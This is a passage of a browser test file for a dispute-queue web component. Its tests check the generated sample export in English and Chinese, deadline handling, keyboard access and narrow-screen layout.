  assert.ok(sizes.grid <= 375, `list ${sizes.grid} px wide`);
  await screenshot(page, "queue-375");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

/** Clicks "Try it with a sample export" and resolves to queue-done's detail. */
async function loadSample(page, press = null) {
  await page.evaluate(() => {
    window.queueDone = new Promise((resolve) => document.querySelector("dispute-queue").addEventListener("queue-done", (e) => resolve(e.detail), { once: true }));
  });
  if (press) await page.keyboard.press(press);
  else await page.locator("dispute-queue #sample").click();
  return page.evaluate(() => window.queueDone);
}

/** The seller's notes of the rows (the sample's one extra column, named in the file's language). */
const notesOf = (list, column) => list.map((e) => e.extras[column]).filter(Boolean);

// The as-of date is half a year from the clock of these tests: a sample dated by the clock
// instead of the queue's date would have no deadline passed and none within the week.
test("the sample export (en): about 300 rows, mixed outcomes, deadlines passed and due within the week of the as-of date", async () => {
  const page = await queuePage();
  const button = page.locator("dispute-queue #sample");
  assert.equal(await button.textContent(), "Try it with a sample export");
  assert.equal(await page.locator("dispute-queue #file-name").isHidden(), true);
  const done = await loadSample(page);
  assert.equal(done.rows, 300);
  assert.equal(done.refused, 0);
  assert.ok(Object.keys(done.byOutcome).length >= 4, JSON.stringify(done.byOutcome));
  for (const outcome of ["reject", "refund_full", "return_refund", "wait"]) assert.ok(done.byOutcome[outcome] >= 10, `${outcome}: ${JSON.stringify(done.byOutcome)}`);
  const list = await entries(page);
  assert.equal(list.length, 300);
  const passed = list.filter((e) => !e.deadline && e.passed);
  const thisWeek = list.filter((e) => e.deadline && e.deadline.daysLeft >= 0 && e.deadline.daysLeft <= 7);
  assert.ok(passed.length >= 20, `${passed.length} with every deadline passed`);
  assert.ok(thisWeek.length >= 50, `${thisWeek.length} due within a week`);
  assert.ok(list.every((e) => !e.deadline || e.deadline.daysLeft < 120), "deadlines far from the as-of date");
  // The rows are evaluated as of the queue's date, and the most urgent come first in the list.
  assert.ok(list.every((e) => e.asOf === AS_OF));
  assert.deepEqual((await shownIds(page)).slice(0, 5), list.slice(0, 5).map((e) => e.id));
  // English headers and notes: the "note" column, in English.
  const notes = notesOf(list, "note");
  assert.ok(new Set(notes).size >= 4 && notes.every((n) => /^[a-z ]+$/.test(n)), notes.slice(0, 8).join(" | "));
  // The name of the file says it is a generated sample, in the queue's language and of its date.
  assert.equal(await page.locator("dispute-queue #file-name").textContent(), `Generated sample, not real orders: sample-disputes-en-${AS_OF}.csv`);
  await screenshot(page, "queue-sample-en");
  // The seller's own file takes the sample's place, and the offer of a sample goes.
  await importFile(page, await readFile(join(repoRoot, "queue/templates/disputes-en.csv")), "my-disputes.csv");
  assert.equal(await page.locator("dispute-queue #file-name").textContent(), "File: my-disputes.csv");
  assert.equal(await button.count(), 0);
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("the sample export (zh-CN): Chinese headers read by themselves, the sellers' notes in Chinese", async () => {
  const page = await queuePage({ lang: "zh-CN" });
  assert.equal(await page.locator("dispute-queue #sample").textContent(), "用示例导出文件试一试");
  const done = await loadSample(page);
  assert.deepEqual([done.rows, done.refused], [300, 0]);
  // No mapping step: the Chinese headers are the queue's own.
  assert.equal(await page.locator("dispute-queue .mapping").isHidden(), true);
  const list = await entries(page);
  const notes = notesOf(list, "备注");
  assert.ok(notes.length >= 50, `${notes.length} notes`);
  assert.ok(notes.every((n) => /[\u4e00-\u9fff]/.test(n)), notes.slice(0, 8).join(" | "));
  assert.ok(list.some((e) => !e.deadline && e.passed) && list.some((e) => e.deadline && e.deadline.daysLeft <= 7));
  assert.match(await page.locator("dispute-queue #file-name").textContent(), new RegExp(`^系统生成的示例.*sample-disputes-zh-CN-${AS_OF}\\.csv$`));
  await screenshot(page, "queue-sample-zh");
  assert.deepEqual(page.problems, []);
  await page.context().close();
});

test("the sample button is reached with Tab and pressed with Enter; the sample at 375 px fits the screen", async () => {
  for (const lang of ["en", "zh-CN"]) {
    const page = await queuePage({ lang, width: 375 });
    // From the last link before the element, Tab goes into the drop zone: the sample button.
    await page.locator("a[href$='disputes-zh.csv']").focus();
    let focused = null;
    for (let i = 0; i < 5 && focused !== "sample"; i++) {
      await page.keyboard.press("Tab");
      focused = await page.evaluate(() => document.querySelector("dispute-queue").shadowRoot.activeElement?.id ?? null);
    }
    assert.equal(focused, "sample", `${lang}: Tab does not reach the sample button`);
    const done = await loadSample(page, "Enter");
    assert.equal(done.rows, 300, lang);
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(width <= 375, `${lang}: document ${width} px wide`);
    await screenshot(page, `queue-sample-375-${lang}`);
    assert.deepEqual(page.problems, []);
    await page.context().close();
  }
});

test("file://: the sample export runs as a picked file does, in the classic build", async () => {
  const page = await queuePage({ file: true, lang: "zh-CN" });
  const done = await loadSample(page);
  assert.deepEqual([done.rows, done.refused], [300, 0]);
  const list = await entries(page);
  const notes = notesOf(list, "备注");
  assert.ok(notes.length >= 50 && notes.every((n) => /[\u4e00-\u9fff]/.test(n)), notes.slice(0, 8).join(" | "));
  assert.ok(list.some((e) => !e.deadline && e.passed));
  assert.deepEqual(page.problems, []);
  await page.context().close();
});
